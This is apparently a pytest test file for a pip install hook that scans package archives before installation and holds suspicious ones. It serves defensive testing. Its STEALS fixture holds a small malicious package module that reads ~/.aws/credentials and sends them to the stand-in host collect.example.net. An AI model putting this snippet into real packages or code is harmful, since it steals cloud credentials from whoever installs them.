"""What the code of archives does, read before the first file is written, with real pips."""

from __future__ import annotations

import os
import sqlite3
import textwrap
from typing import TYPE_CHECKING

import pytest

from support.builders import make_sdist, make_wheel
from support.held import OLD, YOUNG, assert_held

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from support.envs import Env, Home
    from support.index_server import IndexServer

STEALS = {
    "evil/__init__.py": textwrap.dedent(
        """
        import os, urllib.request
        with open(os.path.expanduser("~/.aws/credentials")) as file:
            stolen = file.read()
        try:
            urllib.request.urlopen("https://collect.example.net/up", data=stolen.encode())
        except Exception:
            pass
        """
    )
}
PLAIN = {
    "demo.py": textwrap.dedent(
        """
        import urllib.request

        def _newest():
            return urllib.request.urlopen("https://api.example.test/newest").read()

        NEWEST = _newest()
        """
    ),
    # In a package of a few lines, a request when it is imported is held by itself (weak-signs).
    "demo_rows.py": "ROWS = [\n" + "    1,\n" * 6000 + "]\n",
}
"""Passes by itself, and would not if it were new."""


@pytest.fixture
def html22(index: IndexServer) -> IndexServer:
    """An index that answers pip 22 as the real one does."""
    index.html_for_pip22 = True
    return index


def _scans(home: Home) -> list[tuple[str, str, str]]:
    connection = sqlite3.connect(home.state_dir / "store.sqlite3")
    try:
        return connection.execute(
            "SELECT project, version, decision FROM scan ORDER BY project, version"
        ).fetchall()
    finally:
        connection.close()


def _forget_scans(home: Home) -> None:
    connection = sqlite3.connect(home.state_dir / "store.sqlite3")
    connection.executescript("DELETE FROM scan; DELETE FROM file_scan;")
    connection.close()


def _replace_worker(env: Env, text: str) -> None:
    worker = env.site_packages / "veln_hook" / "source" / "worker.py"
    worker.write_text(text)


BROKEN = "raise SystemExit('no worker for you')\n"


def test_one_bad_wheel_leaves_everything_untouched(env: Env, html22: IndexServer, tmp_path: Path) -> None:
    html22.add(make_wheel(tmp_path, "evil", "1.0", STEALS), upload_time=OLD)
    for name in ("alpha", "zeta"):
        html22.add(make_wheel(tmp_path, name, "1.0"), upload_time=OLD)
    before = env.files()
    result = env.run_pip("install", "alpha", "evil", "zeta", index=html22)
    assert result.returncode == 77, result
    assert "HOLD  evil 1.0" in result.out, result
    assert "Traceback" not in result.out
    assert env.files() == before, "something was written although one archive of the run is held"


def test_the_same_wheel_starts_no_worker_again(env: Env, html22: IndexServer, tmp_path: Path) -> None:
    html22.add(make_wheel(tmp_path, "demo", "1.0"), upload_time=OLD)
    first = env.run_pip("install", "-t", str(tmp_path / "a"), "demo", index=html22)
    assert first.returncode == 0, first
    assert "reading" not in first.out, "it took no time worth a word"
    assert _scans(env.home) == [("demo", "1.0", "allow")]
    _replace_worker(env, BROKEN)
    second = env.run_pip("install", "-t", str(tmp_path / "b"), "demo", index=html22)
    assert second.returncode == 0, second
    html22.add(make_wheel(tmp_path, "other", "1.0"), upload_time=OLD)
    third = env.run_pip("install", "-t", str(tmp_path / "c"), "demo", "other", index=html22)
    assert third.returncode == 77, third
    assert "HOLD  other 1.0  what its code does can't be told" in third.out, third
    assert "no worker for you" in third.out, third
    assert "HOLD  demo" not in third.out
    assert not (tmp_path / "c").exists()


def test_a_worker_that_dies_holds_one_archive(newest_env: Env, index: IndexServer, tmp_path: Path) -> None:
    names = ["alpha", "demo", "zeta"]
    for name in names:
        index.add(make_wheel(tmp_path, name, "1.0"), upload_time=OLD)
    worker = newest_env.site_packages / "veln_hook" / "source" / "worker.py"
    dies = 'if "demo" in asked["scan"]: os.kill(os.getpid(), 9)\n'
    text = worker.read_text()
    line = "        _limit_time(asked"
    assert text.count(line) == 1
    _replace_worker(newest_env, text.replace(line, f"        {dies}{line}"))
    before = newest_env.files()
    result = newest_env.run_pip("install", *names, index=index)
    assert result.returncode == 77, result
    assert [line for line in result.out.splitlines() if "SIGKILL" in line] != [], result
    assert result.out.count("SIGKILL") == 1, result
    assert newest_env.files() == before
    rest = newest_env.run_pip("install", "alpha", "zeta", index=index)
    assert rest.returncode == 0, rest


def test_an_upgrade_is_compared_with_what_was_read_before(
    shared: Env, html22: IndexServer, tmp_path: Path, target: Path
) -> None:
    old = html22.add(make_wheel(tmp_path, "demo", "1.0", PLAIN), upload_time=OLD)
    shared.run_pip("install", "-t", str(target), "demo", index=html22, check=True)
    html22.add(make_wheel(tmp_path, "demo", "2.0", PLAIN), upload_time=OLD)
    html22.add(make_wheel(tmp_path, "demo", "1.5", PLAIN), upload_time=OLD)
    result = shared.run_pip("install", "-U", "-t", str(target), "demo", index=html22)
    assert result.returncode == 0, result
    assert _scans(shared.home) == [("demo", "1.0", "allow"), ("demo", "2.0", "allow")]
    assert html22.downloads[old.filename] == 1


def test_an_upgrade_asks_the_index_where_nothing_was_read_before(
    shared: Env, html22: IndexServer, tmp_path: Path, target: Path
) -> None:
    for version in ("1.0", "1.5", "2.0"):
        html22.add(make_wheel(tmp_path, "demo", version, PLAIN), upload_time=OLD)
    html22.files["demo-1.5-py3-none-any.whl"].yanked = True
    html22.add(make_wheel(tmp_path, "demo", "1.2", PLAIN), upload_time=YOUNG)
    result = shared.run_pip("install", "-t", str(target), "demo", index=html22)
    assert result.returncode == 0, result
    assert _scans(shared.home) == [("demo", "1.0", "allow"), ("demo", "2.0", "allow")]
    assert dict(html22.downloads) == {"demo-1.0-py3-none-any.whl": 1, "demo-2.0-py3-none-any.whl": 1}
    again = shared.run_pip("install", "-t", str(tmp_path / "again"), "demo", index=html22)
    assert again.returncode == 0, again
    assert html22.downloads["demo-1.0-py3-none-any.whl"] == 1


def _cooling(index: IndexServer, wheel: Path) -> None:
    index.add(wheel, upload_time=YOUNG)


def _changed(index: IndexServer, wheel: Path) -> None:
    index.add(wheel, upload_time=OLD)
    index.replace(wheel.name, wheel.read_bytes() + b" ", sha256=False)


def _unpromised(index: IndexServer, wheel: Path) -> None:
    index.add(wheel, upload_time=OLD, sha256=False)


def _gone(index: IndexServer, wheel: Path) -> None:
    index.add(wheel, upload_time=OLD)
    index.fail[f"/files/{wheel.name}"] = 500


def _elsewhere(index: IndexServer, wheel: Path) -> None:
    index.add(wheel, upload_time=OLD, url=f"http://127.0.0.1:9/files/{wheel.name}")


@pytest.mark.parametrize("bad", [_cooling, _changed, _unpromised, _gone, _elsewhere])
def test_what_is_not_compared_with(
    shared_env: Env, index: IndexServer, tmp_path: Path, target: Path, bad: Callable[..., None]
) -> None:
    bad(index, make_wheel(tmp_path, "demo", "1.0", PLAIN))
    index.add(make_wheel(tmp_path, "demo", "2.0", PLAIN), upload_time=OLD)
    result = shared_env.run_pip("install", "-t", str(target), "demo", index=index)
    assert result.returncode == 0, result
    assert "Traceback" not in result.out
    assert _scans(shared_env.home) == [("demo", "2.0", "allow")]
    assert list(shared_env.home.tmp.iterdir()) == []


def test_what_is_installed_is_compared_with_first(
    newest_env: Env, index: IndexServer, tmp_path: Path
) -> None:
    index.add(make_wheel(tmp_path, "demo", "1.0", PLAIN), upload_time=OLD)
    newest_env.run_pip("install", "demo", index=index, check=True)
    index.add(make_wheel(tmp_path, "demo", "2.0", {**PLAIN, **STEALS}), upload_time=OLD)
    held = newest_env.run_pip("install", "-U", "demo", index=index)
    assert held.returncode == 77, held
    assert newest_env.installed()["demo"] == "1.0"


def test_credentials_and_redirects_are_pips_own(
    shared_env: Env, make_index: Callable[..., IndexServer], tmp_path: Path, target: Path
) -> None:
    index = make_index(auth=("user", "secret"))
    for version in ("1.0", "2.0"):
        index.add(make_wheel(tmp_path, "demo", version, PLAIN), upload_time=OLD)
    result = shared_env.run_pip("install", "-v", "-t", str(target), "demo", index=index.auth_url)
    assert result.returncode == 0, result
    assert index.downloads["demo-1.0-py3-none-any.whl"] == 1
    assert "secret" not in result.out


def test_sdists_and_what_is_built_of_them_are_read(
    shared: Env, html22: IndexServer, tmp_path: Path, target: Path, unconfined: dict[str, str]
) -> None:
    marker = tmp_path / "ran"
    html22.add(make_sdist(tmp_path, "demo", "1.0", files=PLAIN, marker=marker), upload_time=OLD)
    result = shared.run_pip("install", "-t", str(target), "demo", index=html22, env=unconfined)
    assert result.returncode == 0, result
    assert marker.exists()
    assert _scans(shared.home) == [("demo", "1.0", "allow")] * 2, "the sdist and the wheel"
    marker.unlink()
    evil = {"evil.py": STEALS["evil/__init__.py"]}
    html22.add(make_sdist(tmp_path, "evil", "1.0", files=evil, marker=marker), upload_time=OLD)
    held = shared.run_pip("install", "-t", str(tmp_path / "b"), "evil", index=html22, env=unconfined)
    assert_held(held, tmp_path / "b", status=77, words="HOLD  evil 1.0")
    assert not marker.exists()


def test_a_long_reading_is_told(newest_env: Env, index: IndexServer, tmp_path: Path) -> None:
    index.add(make_wheel(tmp_path, "demo", "1.0"), upload_time=OLD)
    worker = newest_env.site_packages / "veln_hook" / "source" / "worker.py"
    text = worker.read_text()
    line = "        _limit_time(asked"
    _replace_worker(newest_env, text.replace(line, f"        import time; time.sleep(1.5)\n{line}"))
    result = newest_env.run_pip("install", "demo", index=index)
    assert result.returncode == 0, result
    assert result.out.count("veln-hook: reading demo-1.0 ...") == 1, result
    quiet = newest_env.run_pip("install", "-q", "--force-reinstall", "demo", index=index)
    assert quiet.out == "", quiet


def test_no_process_and_no_file_is_left(newest_env: Env, index: IndexServer, tmp_path: Path) -> None:
    for version in ("1.0", "2.0"):
        index.add(make_wheel(tmp_path, "demo", version, PLAIN), upload_time=OLD)
    noted = tmp_path / "pids"
    worker = newest_env.site_packages / "veln_hook" / "source" / "worker.py"
    note = f"open({str(noted)!r}, 'a').write(str(os.getpid()) + chr(10))\n"
    _replace_worker(newest_env, worker.read_text().replace("def main(", f"{note}def main(", 1))
    result = newest_env.run_pip("install", "demo", index=index)
    assert result.returncode == 0, result
    (pid,) = noted.read_text().split()
    assert not _exists(int(pid)), "one worker read both, and it is gone"
    assert list(newest_env.home.tmp.iterdir()) == []


def _exists(pid: int) -> bool:
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    return True
